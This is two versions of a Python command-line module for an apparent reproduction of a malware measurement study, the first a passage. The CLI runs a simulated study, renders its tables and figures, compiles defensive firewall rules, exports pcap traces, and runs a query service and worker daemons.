    render_probe_matrix,
    render_table,
)
from .core.study import run_study
from .world import FULL_SCALE, SMOKE_SCALE, StudyScale, generate_world
from .world.calibration import ACTIVE_WEEKS

SCALES: dict[str, StudyScale] = {
    "smoke": SMOKE_SCALE,
    "mid": StudyScale(sample_fraction=0.3, probe_days=14),
    "full": FULL_SCALE,
}

REPORT_CHOICES = (
    "table1", "table2", "table3", "table4", "table7",
    "fig1", "fig2", "fig4", "fig5", "fig9", "fig10", "fig11",
)


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="MalNet (IMC 2022) reproduction: run the study, "
                    "render its tables/figures, and emit firewall rules.",
    )
    parser.add_argument("--seed", type=int, default=20220322,
                        help="world seed (default: 20220322)")
    parser.add_argument("--scale", choices=sorted(SCALES), default="smoke",
                        help="study size (default: smoke)")
    sub = parser.add_subparsers(dest="command", required=True)

    sub.add_parser("study", help="run the study and print Table 1 + stats")

    report = sub.add_parser("report", help="render selected tables/figures")
    report.add_argument("--what", nargs="+", choices=REPORT_CHOICES,
                        default=["table1"], help="items to render")

    rules = sub.add_parser("rules", help="compile firewall/IDS rules")
    rules.add_argument("--tech", choices=("iptables", "dnsmasq", "snort",
                                          "all"),
                       default="all", help="rule technology to emit")

    pcap = sub.add_parser("pcap", help="export per-binary pcap traces")
    pcap.add_argument("--out", required=True, help="output directory")
    pcap.add_argument("--limit", type=int, default=10,
                      help="max binaries to export (default 10)")
    return parser


def _run(args) -> tuple:
    world = generate_world(seed=args.seed, scale=SCALES[args.scale])
    malnet, campaign, datasets = run_study(world)
    return world, malnet, campaign, datasets


def _cmd_study(args, out) -> int:
    world, _malnet, campaign, datasets = _run(args)
    summary = datasets.summary()
    rows = [[name, count] for name, count in summary.items()]
    print(render_table(["dataset", "size"], rows, title="Table 1"), file=out)
    dead = c2_analysis.dead_on_arrival_rate(datasets)
    print(f"\ndead-on-day-0 C2 rate: {dead:.0%}", file=out)
    print(f"probe repeat-response rate: "
          f"{campaign.repeat_response_rate():.0%}", file=out)
    print(f"attack types observed: "
          f"{sorted({r.attack_type for r in datasets.d_ddos})}", file=out)
    return 0


def _cmd_report(args, out) -> int:
    world, _malnet, campaign, datasets = _run(args)
    renderers = {
        "table1": lambda: render_table(
            ["dataset", "size"],
            [[k, v] for k, v in datasets.summary().items()], "Table 1"),
        "table2": lambda: render_table(
            ["AS", "ASN", "country", "#C2s"],
            [[r["as_name"], r["asn"], r["country"], r["c2_count"]]
             for r in c2_analysis.table2_rows(datasets, world.asdb)],
            "Table 2"),
        "table3": lambda: render_table(
            ["type", "same-day miss", "re-query miss", "n"],
            [[k, f"{v.same_day:.1%}", f"{v.recheck:.1%}", v.count]
             for k, v in ti_analysis.table3(datasets).items()], "Table 3"),
        "table4": lambda: render_table(
            ["vulnerability", "samples"],
            [[r.vulnerability.key, r.sample_count]
             for r in exploit_analysis.table4(datasets)], "Table 4"),
        "table7": lambda: render_table(
            ["vendor", "/1000"],
            [[n, c] for n, c in ti_analysis.table7(datasets, world.vt)[:20]],
            "Table 7"),
        "fig1": lambda: render_heatmap(
            c2_analysis.weekly_as_heatmap(datasets, world.asdb, ACTIVE_WEEKS),
            "Figure 1"),
        "fig2": lambda: render_cdf(
            c2_analysis.lifetime_cdf(datasets, dns=False), "Figure 2", "days"),
        "fig4": lambda: render_probe_matrix(
            campaign.response_matrix(), "Figure 4"),
        "fig5": lambda: render_cdf(
            c2_analysis.samples_per_c2_cdf(datasets, dns=False),
            "Figure 5", "#binaries"),
        "fig9": lambda: render_histogram(
            exploit_analysis.loader_frequencies(datasets), "Figure 9"),
        "fig10": lambda: render_histogram(
            {k: round(v * 100)
             for k, v in ddos_analysis.protocol_distribution(datasets).items()},
            "Figure 10 (%)"),
        "fig11": lambda: render_histogram(
            {f"{f}/{t}": n
             for (f, t), n in ddos_analysis.type_by_family(datasets).items()},
            "Figure 11"),
    }
    for what in args.what:
        print(renderers[what](), file=out)
        print(file=out)
    return 0


def _cmd_rules(args, out) -> int:
    _world, _malnet, _campaign, datasets = _run(args)
    bundle = compile_rules(datasets)
    technology = None if args.tech == "all" else args.tech
    print(bundle.render(technology), file=out)
    report = coverage_report(datasets, bundle)
    print(f"# c2 coverage: {report['c2_coverage']:.0%}; "
          f"binary coverage: {report['binary_coverage']:.0%}", file=out)
    return 0


def _cmd_pcap(args, out) -> int:
    import os

    world, malnet, _campaign, datasets = _run(args)
    os.makedirs(args.out, exist_ok=True)
    exported = 0
    # re-run the offline analysis for the first N profiled binaries and
    # persist their traffic as pcap files
    by_hash = {s.sample.sha256: s.sample for s in world.truth.all_samples}
    for profile in datasets.profiles:
        if exported >= args.limit:
            break
        sample = by_hash.get(profile.sha256)
        if sample is None or not profile.activated:
            continue
        report = malnet.sandbox.analyze_offline(sample.data, scan_budget=60)
        path = os.path.join(args.out, f"{profile.sha256[:16]}.pcap")
        report.capture.save(path)
        print(f"{path}  ({len(report.capture)} packets, "
              f"family={profile.family_label})", file=out)
        exported += 1
    print(f"# exported {exported} traces", file=out)
    return 0


def main(argv: list[str] | None = None, out=None) -> int:
    """Entry point; returns a process exit code."""
    out = out or sys.stdout
    args = _build_parser().parse_args(argv)
    commands = {
        "study": _cmd_study,
        "report": _cmd_report,
        "rules": _cmd_rules,
        "pcap": _cmd_pcap,
    }
    return commands[args.command](args, out)


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
