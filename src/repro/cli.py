"""Command-line interface: run studies, render reports, emit rules.

Usage (also via ``python -m repro``)::

    python -m repro study  --scale smoke --seed 7
    python -m repro study  --scale smoke --telemetry /tmp/telemetry
    python -m repro report --scale smoke --what table1 table3 fig4
    python -m repro rules  --scale smoke --tech iptables
    python -m repro pcap   --scale smoke --out /tmp/traces --limit 5
    python -m repro stats  --scale smoke --workers 2
    python -m repro obs top /tmp/telemetry
    python -m repro obs diff /tmp/runA /tmp/runB --threshold 0.2
    python -m repro serve  --scale smoke --port 8321 --checkpoint-dir /tmp/ckpt
    python -m repro query http://127.0.0.1:8321 ingest --days all
    python -m repro query http://127.0.0.1:8321 profile --sha256 <hash>

Scales: ``smoke`` (~70 samples, seconds), ``mid`` (~430), ``full`` (the
paper's 1447 samples, ~10 s), ``xl`` (~720 samples with smoke-sized
windows — the columnar-core stress setting).
"""

from __future__ import annotations

import argparse
import dataclasses
import os
import sys

from .core import c2_analysis, ddos_analysis, exploit_analysis, ti_analysis
from .core.firewall import compile_rules, coverage_report
from .core.report import (
    render_cdf,
    render_heatmap,
    render_histogram,
    render_probe_matrix,
    render_table,
)
from .core.pipeline import PipelineConfig
from .core.study import run_study
from .netsim.faults import FAULT_PLANS
from .obs import NULL_TELEMETRY, Telemetry, create_telemetry
from .world import FULL_SCALE, SMOKE_SCALE, XL_SCALE, StudyScale, generate_world
from .world.calibration import ACTIVE_WEEKS

SCALES: dict[str, StudyScale] = {
    "smoke": SMOKE_SCALE,
    "mid": StudyScale(sample_fraction=0.3, probe_days=14),
    "full": FULL_SCALE,
    "xl": XL_SCALE,
}

REPORT_CHOICES = (
    "table1", "table2", "table3", "table4", "table7",
    "fig1", "fig2", "fig4", "fig5", "fig9", "fig10", "fig11",
    "samples", "dga-churn", "dga-evasion",
)

QUERY_CHOICES = (
    "status", "digest", "health", "profiles", "profile", "c2", "lifespans",
    "ddos", "exploits", "rules", "metrics", "ingest", "finalize",
)


def _sample_rows(datasets, limit: int = 20) -> list[list]:
    """Per-C2 sample attribution rows (largest C2s first).

    Each sample hash on a C2 record is resolved through the O(1)
    ``profile_by_sha256`` index rather than scanning the profile list
    per hash."""
    rows: list[list] = []
    records = sorted(datasets.d_c2s.values(),
                     key=lambda r: (-r.distinct_samples, r.endpoint))
    for record in records:
        for sha256 in sorted(record.sample_hashes):
            profile = datasets.profile_by_sha256(sha256)
            if profile is None:
                continue
            rows.append([sha256[:12], profile.family_label or "?",
                         profile.day, record.endpoint,
                         len(profile.exploits), len(profile.attacks)])
            if len(rows) >= limit:
                return rows
    return rows


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="MalNet (IMC 2022) reproduction: run the study, "
                    "render its tables/figures, and emit firewall rules.",
    )
    parser.add_argument("--seed", type=int, default=20220322,
                        help="world seed (default: 20220322)")
    parser.add_argument("--scale", choices=sorted(SCALES), default="smoke",
                        help="study size (default: smoke)")
    sub = parser.add_subparsers(dest="command", required=True)

    def telemetry_flag(subparser):
        subparser.add_argument(
            "--telemetry", metavar="PATH", default=None,
            help="write snapshot.json / events.jsonl / metrics.prom "
                 "under this directory")

    def workers_flag(subparser):
        subparser.add_argument(
            "--workers", type=int, default=None, metavar="N",
            help="shard the daily pipeline over N worker processes "
                 "(default: in-process serial; results are identical)")

    def faults_flag(subparser):
        subparser.add_argument(
            "--faults", choices=sorted(FAULT_PLANS), default=None,
            help="inject deterministic faults (packet loss, feed outages, "
                 "sandbox crashes); results stay reproducible per seed")

    def cache_flag(subparser):
        subparser.add_argument(
            "--cache-dir", metavar="DIR", default=None,
            help="persistent study cache: store/reuse results keyed by "
                 "(seed, scale, faults, config, code version); a hit "
                 "skips the run and returns identical datasets")

    def dga_flag(subparser):
        subparser.add_argument(
            "--dga", action="store_true",
            help="opt-in DGA scenario: DGA-capable families rotate "
                 "generated domains and a defender blocklist scores "
                 "queries in-line (see DESIGN.md §8)")

    def transport_flags(subparser):
        subparser.add_argument(
            "--transport", choices=("local", "socket"), default=None,
            help="where shard units execute: 'local' worker pool "
                 "(default) or 'socket' repro-worker daemons at --peers; "
                 "results are byte-identical either way (DESIGN.md §9)")
        subparser.add_argument(
            "--peers", metavar="HOST:PORT,...", default=None,
            help="comma-separated worker addresses for --transport socket")
        subparser.add_argument(
            "--units", type=int, default=None, metavar="N",
            help="cut the corpus into N sha256 units (default: workers "
                 "locally, 4x the fleet over sockets); any N merges to "
                 "the same digest")

    study = sub.add_parser("study", help="run the study and print Table 1 + stats")
    telemetry_flag(study)
    workers_flag(study)
    faults_flag(study)
    cache_flag(study)
    dga_flag(study)
    transport_flags(study)

    report = sub.add_parser("report", help="render selected tables/figures")
    report.add_argument("--what", nargs="+", choices=REPORT_CHOICES,
                        default=["table1"], help="items to render")
    telemetry_flag(report)
    workers_flag(report)
    faults_flag(report)
    cache_flag(report)
    dga_flag(report)
    transport_flags(report)

    stats = sub.add_parser(
        "stats", help="run the study with telemetry on and print the "
                      "per-stage summary")
    telemetry_flag(stats)
    workers_flag(stats)
    faults_flag(stats)
    transport_flags(stats)

    worker = sub.add_parser(
        "worker", help="run a distributed study worker daemon that "
                       "executes shard units for a coordinator "
                       "(repro study --transport socket)")
    worker.add_argument("--host", default="127.0.0.1",
                        help="bind address (default: 127.0.0.1)")
    worker.add_argument("--port", type=int, default=0,
                        help="listen port (default: 0 = ephemeral; the "
                             "chosen port is announced on stdout)")
    worker.add_argument("--heartbeat-interval", type=float, default=0.5,
                        metavar="SECONDS",
                        help="heartbeat cadence while executing a unit "
                             "(default: 0.5)")
    worker.add_argument("--world-cache", type=int, default=4, metavar="N",
                        help="pristine generated worlds kept warm "
                             "(default: 4)")

    obs = sub.add_parser(
        "obs", help="inspect telemetry artifact directories written by "
                    "--telemetry (no study is run)")
    obs_sub = obs.add_subparsers(dest="obs_command", required=True)
    obs_top = obs_sub.add_parser(
        "top", help="slowest pipeline stages of a finished run")
    obs_top.add_argument("dir", help="artifact directory")
    obs_top.add_argument("-n", type=int, default=10, metavar="N",
                         help="stages to show (default 10)")
    obs_diff = obs_sub.add_parser(
        "diff", help="compare two runs; exits 1 when any counter, "
                     "histogram, or span moves beyond the threshold")
    obs_diff.add_argument("dir_a", help="baseline artifact directory")
    obs_diff.add_argument("dir_b", help="candidate artifact directory")
    obs_diff.add_argument("--threshold", type=float, default=0.25,
                          metavar="REL",
                          help="relative-change breach threshold "
                               "(default 0.25)")
    obs_diff.add_argument("--min-wall", type=float, default=0.05,
                          metavar="SEC",
                          help="ignore span wall deltas below this many "
                               "seconds (default 0.05)")
    obs_timeline = obs_sub.add_parser(
        "timeline", help="ASCII per-track timeline of trace.json")
    obs_timeline.add_argument("dir", help="artifact directory")
    obs_timeline.add_argument("--width", type=int, default=64,
                              help="bar width in characters (default 64)")
    obs_manifest = obs_sub.add_parser(
        "manifest", help="summarize a run's manifest.json")
    obs_manifest.add_argument("dir", help="artifact directory")
    obs_manifest.add_argument("--json", action="store_true",
                              help="dump the raw manifest document")

    rules = sub.add_parser("rules", help="compile firewall/IDS rules")
    rules.add_argument("--tech", choices=("iptables", "dnsmasq", "snort",
                                          "all"),
                       default="all", help="rule technology to emit")
    telemetry_flag(rules)

    pcap = sub.add_parser("pcap", help="export per-binary pcap traces")
    pcap.add_argument("--out", required=True, help="output directory")
    pcap.add_argument("--limit", type=int, default=10,
                      help="max binaries to export (default 10)")
    telemetry_flag(pcap)

    serve = sub.add_parser(
        "serve", help="run the study as a daemon: ingest feed days "
                      "incrementally and serve the JSON query API")
    serve.add_argument("--host", default="127.0.0.1",
                       help="bind address (default 127.0.0.1)")
    serve.add_argument("--port", type=int, default=8321,
                       help="bind port, 0 for ephemeral (default 8321)")
    serve.add_argument("--checkpoint-dir", metavar="DIR", default=None,
                       help="persist a checkpoint after every ingested day; "
                            "a restart with the same study resumes from the "
                            "last completed day")
    serve.add_argument("--auto-ingest", type=float, default=None,
                       metavar="SECONDS",
                       help="simulated feed clock: ingest one day every "
                            "SECONDS without waiting for POST /ingest/day")
    serve.add_argument("--study-days", type=int, default=None, metavar="N",
                       help="truncate the study to its first N feed days")
    workers_flag(serve)
    faults_flag(serve)
    telemetry_flag(serve)

    query = sub.add_parser(
        "query", help="query a running study service (repro serve)")
    query.add_argument("url", help="service base URL, "
                                   "e.g. http://127.0.0.1:8321")
    query.add_argument("what", choices=QUERY_CHOICES,
                       help="route to query")
    query.add_argument("--sha256", default=None,
                       help="binary hash for 'profile'")
    query.add_argument("--days", default="1",
                       help="days to ingest for 'ingest': a count or "
                            "'all' (default 1)")
    query.add_argument("--day", type=int, default=None,
                       help="filter 'profiles' to one study day")
    query.add_argument("--limit", type=int, default=None,
                       help="cap 'profiles' output")
    query.add_argument("--tech", choices=("iptables", "dnsmasq", "snort",
                                          "all"),
                       default="all", help="rule technology for 'rules'")
    query.add_argument("--timeout", type=float, default=30.0,
                       help="request timeout in seconds (default 30)")
    return parser


def _telemetry_for(args) -> tuple[Telemetry, str | None]:
    """An enabled telemetry bundle when ``--telemetry PATH`` was given.

    The output directory is created eagerly so a bad path fails before
    the study runs, not after."""
    path = getattr(args, "telemetry", None)
    if path is None:
        return NULL_TELEMETRY, None
    try:
        os.makedirs(path, exist_ok=True)
    except OSError as exc:
        raise SystemExit(f"repro: --telemetry {path!r}: {exc}")
    return create_telemetry(), path


def _emit(out, telemetry: Telemetry, text: str, event: str, **fields) -> None:
    """CLI output: the rendered text goes to ``out``, a structured copy of
    the underlying fact goes to the event log."""
    print(text, file=out)
    telemetry.events.emit(event, **fields)


def _finish_telemetry(out, telemetry: Telemetry, path: str | None) -> None:
    if path is None:
        return
    paths = telemetry.write(path)
    print(f"# telemetry written to {path} "
          f"({', '.join(sorted(p.rsplit('/', 1)[-1] for p in paths.values()))})",
          file=out)


def _parse_peers(value: str | None) -> list[str] | None:
    """``"host:port,host:port"`` -> validated address list (or None)."""
    if not value:
        return None
    peers = []
    for address in value.split(","):
        address = address.strip()
        if not address:
            continue
        host, _, port = address.rpartition(":")
        if not host or not port.isdigit():
            raise SystemExit(
                f"repro: --peers entries must be host:port, got {address!r}")
        peers.append(address)
    if not peers:
        raise SystemExit("repro: --peers is empty")
    return peers


def _run(args, telemetry: Telemetry = NULL_TELEMETRY) -> tuple:
    scale = SCALES[args.scale]
    if getattr(args, "dga", False):
        # the flag rides on the scale so parallel workers regenerating
        # the world from (seed, scale) build the same DGA campaigns
        scale = dataclasses.replace(scale, dga=True)
    world = generate_world(seed=args.seed, scale=scale)
    workers = getattr(args, "workers", None)
    if workers is not None and workers < 0:
        raise SystemExit(f"repro: --workers must be >= 0, got {workers}")
    transport = getattr(args, "transport", None)
    peers = _parse_peers(getattr(args, "peers", None))
    if peers and transport is None:
        transport = "socket"
    if transport == "socket" and not peers:
        raise SystemExit(
            "repro: --transport socket needs --peers host:port[,host:port]")
    config = None
    faults = getattr(args, "faults", None)
    if faults is not None:
        config = PipelineConfig(faults=FAULT_PLANS[faults])
    malnet, campaign, datasets = run_study(world, config=config,
                                           telemetry=telemetry,
                                           workers=workers,
                                           transport=transport,
                                           peers=peers,
                                           unit_count=getattr(args, "units",
                                                              None),
                                           cache=getattr(args, "cache_dir",
                                                         None))
    if datasets.failed_shards:
        print(f"# WARNING: partial results - shards {datasets.failed_shards} "
              "failed and were excluded from the merge", file=sys.stderr)
    return world, malnet, campaign, datasets


def _cmd_study(args, out) -> int:
    telemetry, telemetry_path = _telemetry_for(args)
    world, _malnet, campaign, datasets = _run(args, telemetry)
    summary = datasets.summary()
    rows = [[name, count] for name, count in summary.items()]
    _emit(out, telemetry,
          render_table(["dataset", "size"], rows, title="Table 1"),
          "cli.table1", sizes=dict(summary))
    dead = c2_analysis.dead_on_arrival_rate(datasets)
    _emit(out, telemetry, f"\ndead-on-day-0 C2 rate: {dead:.0%}",
          "cli.dead_on_arrival", rate=dead)
    repeat = campaign.repeat_response_rate()
    _emit(out, telemetry, f"probe repeat-response rate: {repeat:.0%}",
          "cli.repeat_response", rate=repeat)
    attack_types = sorted({r.attack_type for r in datasets.d_ddos})
    _emit(out, telemetry, f"attack types observed: {attack_types}",
          "cli.attack_types", types=attack_types)
    if getattr(args, "dga", False):
        clusters = c2_analysis.domain_churn_clusters(datasets)
        evasion = c2_analysis.block_evasion_rate(datasets)
        domains = sum(len(records) for records in clusters.values())
        _emit(out, telemetry,
              f"DGA campaigns observed: {len(clusters)} "
              f"({domains} rotated domains); "
              f"block-evasion rate: {evasion:.0%}",
              "cli.dga", campaigns=len(clusters), domains=domains,
              evasion=evasion)
    _finish_telemetry(out, telemetry, telemetry_path)
    return 0


def _cmd_report(args, out) -> int:
    telemetry, telemetry_path = _telemetry_for(args)
    world, _malnet, campaign, datasets = _run(args, telemetry)
    renderers = {
        "table1": lambda: render_table(
            ["dataset", "size"],
            [[k, v] for k, v in datasets.summary().items()], "Table 1"),
        "table2": lambda: render_table(
            ["AS", "ASN", "country", "#C2s"],
            [[r["as_name"], r["asn"], r["country"], r["c2_count"]]
             for r in c2_analysis.table2_rows(datasets, world.asdb)],
            "Table 2"),
        "table3": lambda: render_table(
            ["type", "same-day miss", "re-query miss", "n"],
            [[k, f"{v.same_day:.1%}", f"{v.recheck:.1%}", v.count]
             for k, v in ti_analysis.table3(datasets).items()], "Table 3"),
        "table4": lambda: render_table(
            ["vulnerability", "samples"],
            [[r.vulnerability.key, r.sample_count]
             for r in exploit_analysis.table4(datasets)], "Table 4"),
        "table7": lambda: render_table(
            ["vendor", "/1000"],
            [[n, c] for n, c in ti_analysis.table7(datasets, world.vt)[:20]],
            "Table 7"),
        "fig1": lambda: render_heatmap(
            c2_analysis.weekly_as_heatmap(datasets, world.asdb, ACTIVE_WEEKS),
            "Figure 1"),
        "fig2": lambda: render_cdf(
            c2_analysis.lifetime_cdf(datasets, dns=False), "Figure 2", "days"),
        "fig4": lambda: render_probe_matrix(
            campaign.response_matrix(), "Figure 4"),
        "fig5": lambda: render_cdf(
            c2_analysis.samples_per_c2_cdf(datasets, dns=False),
            "Figure 5", "#binaries"),
        "fig9": lambda: render_histogram(
            exploit_analysis.loader_frequencies(datasets), "Figure 9"),
        "fig10": lambda: render_histogram(
            {k: round(v * 100)
             for k, v in ddos_analysis.protocol_distribution(datasets).items()},
            "Figure 10 (%)"),
        "fig11": lambda: render_histogram(
            {f"{f}/{t}": n
             for (f, t), n in ddos_analysis.type_by_family(datasets).items()},
            "Figure 11"),
        "samples": lambda: render_table(
            ["sha256", "family", "day", "c2", "exploits", "attacks"],
            _sample_rows(datasets), "Samples per C2"),
        "dga-churn": lambda: render_cdf(
            c2_analysis.domain_churn_lifetime_cdf(datasets),
            "Domain-churn lifetime", "days"),
        "dga-evasion": lambda: (
            f"block-evasion rate: "
            f"{c2_analysis.block_evasion_rate(datasets):.1%} "
            f"(static-DNS baseline: "
            f"{1 - c2_analysis.dead_on_arrival_rate(datasets):.1%} live)"),
    }
    for what in args.what:
        _emit(out, telemetry, renderers[what](), "cli.render", what=what)
        print(file=out)
    _finish_telemetry(out, telemetry, telemetry_path)
    return 0


def _cmd_stats(args, out) -> int:
    """Run the study with telemetry on; render the per-stage summary."""
    telemetry = create_telemetry()
    _run(args, telemetry)
    aggregate = telemetry.tracer.aggregate()
    stage_rows = [
        [name, stat["count"],
         f"{stat['wall_seconds']:.3f}",
         f"{stat['sim_seconds'] / 3600.0:.1f}"]
        for name, stat in sorted(
            aggregate.items(),
            key=lambda item: -item[1]["wall_seconds"])
    ]
    print(render_table(["stage", "calls", "wall s", "sim h"], stage_rows,
                       title="Pipeline stages"), file=out)
    print(file=out)
    top_rows = [
        [name, f"{stat['wall_seconds']:.3f}"]
        for name, stat in sorted(aggregate.items(),
                                 key=lambda item: -item[1]["wall_seconds"])[:5]
    ]
    print(render_table(["span", "total wall s"], top_rows,
                       title="Top spans"), file=out)
    print(file=out)
    counter_rows = []
    for family in telemetry.metrics.families():
        if family.kind != "counter":
            continue
        for labels, child in family.series():
            label_text = ",".join(f"{k}={v}" for k, v in labels.items())
            name = f"{family.name}{{{label_text}}}" if label_text else family.name
            counter_rows.append([name, int(child.value)])
    print(render_table(["counter", "total"], counter_rows, title="Counters"),
          file=out)
    histogram_rows = []
    for family in telemetry.metrics.families():
        if family.kind != "histogram":
            continue
        for labels, child in family.series():
            label_text = ",".join(f"{k}={v}" for k, v in labels.items())
            name = f"{family.name}{{{label_text}}}" if label_text else family.name
            histogram_rows.append(
                [name, child.count]
                + [f"{child.quantile(q):g}" for q in (0.5, 0.95, 0.99)])
    if histogram_rows:
        print(file=out)
        print(render_table(["histogram", "count", "p50", "p95", "p99"],
                           histogram_rows, title="Histograms"), file=out)
    _finish_telemetry(out, telemetry, getattr(args, "telemetry", None))
    return 0


def _cmd_obs(args, out) -> int:
    """Dispatch the ``obs`` analysis group over an artifact directory."""
    from .obs import analysis
    from .obs.manifest import read_manifest

    # fail with a clear message before touching any artifact: every obs
    # subcommand reads directories written by --telemetry, and a typo'd
    # or empty path should not surface as a traceback
    directories = [d for d in (getattr(args, "dir", None),
                               getattr(args, "dir_a", None),
                               getattr(args, "dir_b", None)) if d]
    for directory in directories:
        if not os.path.isdir(directory):
            raise SystemExit(
                f"repro obs: {directory!r} is not a directory; expected "
                "an artifact directory written by --telemetry")
        if not os.listdir(directory):
            raise SystemExit(
                f"repro obs: {directory!r} is empty; run a study with "
                "--telemetry to populate it")
    try:
        if args.obs_command == "top":
            rows = [
                [name, stat["count"], f"{stat['wall_seconds']:.3f}",
                 f"{stat['sim_seconds'] / 3600.0:.1f}"]
                for name, stat in analysis.top_spans(
                    analysis.load_snapshot(args.dir), args.n)
            ]
            print(render_table(["stage", "calls", "wall s", "sim h"], rows,
                               title=f"Top {args.n} stages"), file=out)
            return 0
        if args.obs_command == "diff":
            lines, breaches = analysis.diff_runs(
                args.dir_a, args.dir_b, threshold=args.threshold,
                min_wall=args.min_wall)
            for line in lines:
                print(line, file=out)
            print(f"# {breaches} breach(es) beyond "
                  f"threshold {args.threshold:g}", file=out)
            return 1 if breaches else 0
        if args.obs_command == "timeline":
            for line in analysis.timeline(analysis.load_trace(args.dir),
                                          width=args.width):
                print(line, file=out)
            return 0
        # manifest
        manifest = read_manifest(args.dir)
        if args.json:
            import json

            print(json.dumps(manifest, indent=2, default=str), file=out)
        else:
            for line in analysis.describe_manifest(manifest):
                print(line, file=out)
        return 0
    except OSError as exc:
        raise SystemExit(f"repro obs: {exc}")
    except (ValueError, KeyError) as exc:
        # truncated JSON, a non-telemetry file, a snapshot missing keys —
        # name the problem instead of dumping a traceback
        raise SystemExit(
            f"repro obs: corrupt or incomplete artifact in "
            f"{' / '.join(directories)}: {exc}")


def _cmd_rules(args, out) -> int:
    telemetry, telemetry_path = _telemetry_for(args)
    _world, _malnet, _campaign, datasets = _run(args, telemetry)
    bundle = compile_rules(datasets)
    technology = None if args.tech == "all" else args.tech
    _emit(out, telemetry, bundle.render(technology), "cli.rules",
          technology=args.tech, rules=len(bundle.rules))
    report = coverage_report(datasets, bundle)
    _emit(out, telemetry,
          f"# c2 coverage: {report['c2_coverage']:.0%}; "
          f"binary coverage: {report['binary_coverage']:.0%}",
          "cli.rule_coverage", **report)
    _finish_telemetry(out, telemetry, telemetry_path)
    return 0


def _cmd_pcap(args, out) -> int:
    import os

    telemetry, telemetry_path = _telemetry_for(args)
    world, malnet, _campaign, datasets = _run(args, telemetry)
    os.makedirs(args.out, exist_ok=True)
    exported = 0
    # re-run the offline analysis for the first N profiled binaries and
    # persist their traffic as pcap files
    by_hash = {s.sample.sha256: s.sample for s in world.truth.all_samples}
    for profile in datasets.profiles:
        if exported >= args.limit:
            break
        sample = by_hash.get(profile.sha256)
        if sample is None or not profile.activated:
            continue
        report = malnet.sandbox.analyze_offline(sample.data, scan_budget=60)
        path = os.path.join(args.out, f"{profile.sha256[:16]}.pcap")
        report.capture.save(path)
        _emit(out, telemetry,
              f"{path}  ({len(report.capture)} packets, "
              f"family={profile.family_label})",
              "cli.pcap_trace", path=path, packets=len(report.capture),
              family=profile.family_label)
        exported += 1
    _emit(out, telemetry, f"# exported {exported} traces",
          "cli.pcap_done", exported=exported)
    _finish_telemetry(out, telemetry, telemetry_path)
    return 0


def _cmd_serve(args, out) -> int:
    """Run the ingestion daemon until SIGTERM/SIGINT."""
    from .service import StudyService, build_server, serve_forever

    telemetry, telemetry_path = _telemetry_for(args)
    if not telemetry.enabled:
        telemetry = create_telemetry()  # /metrics should never be empty
    workers = getattr(args, "workers", None)
    if workers is not None and workers < 0:
        raise SystemExit(f"repro: --workers must be >= 0, got {workers}")
    config = PipelineConfig(
        faults=FAULT_PLANS[args.faults] if args.faults else None,
        study_days=args.study_days)
    service = StudyService(
        seed=args.seed, scale=SCALES[args.scale], config=config,
        shards=workers or 1, telemetry=telemetry,
        checkpoint_dir=args.checkpoint_dir)
    try:
        server = build_server(service, host=args.host, port=args.port)
    except OSError as exc:
        raise SystemExit(f"repro serve: cannot bind "
                         f"{args.host}:{args.port}: {exc}")
    host, port = server.server_address[:2]

    def announce():
        # called once signal handlers are live: a client that reacts to
        # this line can already SIGTERM us safely
        print(f"# serving study (seed={args.seed}, scale={args.scale}, "
              f"day {service.runner.next_day}/{service.runner.total_days}"
              f"{', resumed' if service.resumed else ''}) "
              f"on http://{host}:{port}", file=out, flush=True)

    serve_forever(server, service, auto_ingest=args.auto_ingest,
                  ready=announce)
    print(f"# shutdown at day {service.runner.next_day}"
          f"/{service.runner.total_days}"
          + (", checkpoint flushed" if args.checkpoint_dir else ""),
          file=out)
    _finish_telemetry(out, telemetry, telemetry_path)
    return 0


def _cmd_query(args, out) -> int:
    """One request against a running service; JSON (or rule text) out."""
    import json

    from .service import ServiceError, StudyClient

    client = StudyClient(args.url, timeout=args.timeout)
    try:
        if args.what == "rules":
            technology = None if args.tech == "all" else args.tech
            print(client.rules(technology), file=out, end="")
            return 0
        if args.what == "metrics":
            print(client.metrics(), file=out, end="")
            return 0
        if args.what == "profile":
            if not args.sha256:
                raise SystemExit("repro query: 'profile' needs --sha256")
            document = client.profile(args.sha256)
        elif args.what == "profiles":
            document = client.profiles(day=args.day, limit=args.limit)
        elif args.what == "ingest":
            days = args.days
            if days != "all":
                try:
                    days = int(days)
                except ValueError:
                    raise SystemExit(
                        f"repro query: --days must be an integer or "
                        f"'all', got {args.days!r}")
            document = client.ingest(days)
        else:
            document = {
                "status": client.status,
                "digest": client.digest,
                "health": client.healthz,
                "c2": client.c2s,
                "lifespans": client.lifespans,
                "ddos": client.ddos_summary,
                "exploits": client.exploits_summary,
                "finalize": client.finalize,
            }[args.what]()
        print(json.dumps(document, indent=2), file=out)
        return 0
    except ServiceError as exc:
        raise SystemExit(f"repro query: {exc}")


def _cmd_worker(args, out) -> int:
    """Run a ``repro worker`` daemon until SIGTERM/SIGINT.

    The announce line (``# worker listening on host:port``) is the
    machine-readable contract scripts parse when ``--port 0`` picks an
    ephemeral port.
    """
    import signal

    from .dist.worker import WorkerServer

    server = WorkerServer(host=args.host, port=args.port,
                          heartbeat_interval=args.heartbeat_interval,
                          world_cache_limit=args.world_cache)

    def _stop(signum, _frame):
        print(f"# worker stopping on {signal.Signals(signum).name}",
              file=out, flush=True)
        server.shutdown()

    signal.signal(signal.SIGTERM, _stop)
    signal.signal(signal.SIGINT, _stop)
    print(f"# worker listening on {server.host}:{server.port} "
          f"(pid {os.getpid()})", file=out, flush=True)
    server.serve_forever()
    print(f"# worker stopped after {server.tasks_run} unit task(s)",
          file=out, flush=True)
    return 0


def main(argv: list[str] | None = None, out=None) -> int:
    """Entry point; returns a process exit code."""
    out = out or sys.stdout
    args = _build_parser().parse_args(argv)
    commands = {
        "study": _cmd_study,
        "report": _cmd_report,
        "stats": _cmd_stats,
        "rules": _cmd_rules,
        "pcap": _cmd_pcap,
        "obs": _cmd_obs,
        "serve": _cmd_serve,
        "query": _cmd_query,
        "worker": _cmd_worker,
    }
    try:
        return commands[args.command](args, out)
    except BrokenPipeError:
        # downstream closed the pipe early (grep -q, head); that is its
        # prerogative, not an error.  Point stdout at /dev/null so the
        # interpreter's exit flush does not raise a second time.
        try:
            os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        except OSError:
            pass
        return 0


if __name__ == "__main__":  # pragma: no cover
